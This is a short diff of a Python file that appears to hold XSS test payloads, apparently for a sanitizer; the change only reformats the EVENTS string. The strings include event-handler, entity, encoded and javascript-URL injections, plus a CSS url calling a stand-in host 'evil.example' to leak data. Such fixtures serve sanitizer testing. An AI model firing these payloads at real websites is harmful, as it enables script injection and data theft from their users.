@@ -41,11 +41,14 @@ alert(1)
 <!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
 """
 
-EVENTS = r"""
+EVENTS = (
+    r"""
 <img src=x onerror=alert(1)>
 <img/src="x"/onerror="alert(1)">
 <img src=x:alert(alt) onerror=eval(src) alt=xss>
-<IMG """ + '"""' + r"""><SCRIPT>alert(1)</SCRIPT>">
+<IMG """
+    + '"""'
+    + r"""><SCRIPT>alert(1)</SCRIPT>">
 <img src=`x`onerror=alert(1)>
 <img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">
 <body onload=alert(1)>
@@ -62,6 +65,7 @@ EVENTS = r"""
 <td background="javascript:alert(1)">x</td>
 <p class="x" id="main" style="background:url(https://evil.example/?leak)">x</p>
 """
+)
 
 FOREIGN = r"""
 <svg onload=alert(1)>
